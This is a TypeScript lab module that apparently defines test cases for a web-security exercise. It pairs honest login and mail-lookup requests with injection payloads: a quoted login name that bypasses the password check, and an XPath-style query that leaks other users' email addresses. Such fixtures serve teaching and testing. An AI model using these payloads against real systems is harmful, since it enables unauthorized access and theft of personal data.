import type { LabModule } from '../../labModule';

export const lab: LabModule = {
  cases: [
    {
      name: 'f-string: login without a password',
      honest: [
        { to: 'POST /login', form: { name: 'ann', password: 'apple-tree' }, shows: 'ann' },
        { to: 'POST /login', form: { name: 'ann', password: 'no' }, status: 403 },
      ],
      exploit: [{ to: 'POST /login', form: { name: "bob' or 'a'='b", password: '' } }],
      proof: { body: 'bob' },
    },
    {
      name: 'percent: addresses of others',
      honest: [
        { to: '/mail?name=ann', shows: 'ann@example.com' },
        { to: '/mail?name=bob', shows: '[]' },
      ],
      exploit: [{ to: '/mail', query: { name: "x']|//user/mail/text()|//x[y='" } }],
      proof: { body: 'bob@example.com' },
    },
  ],
};
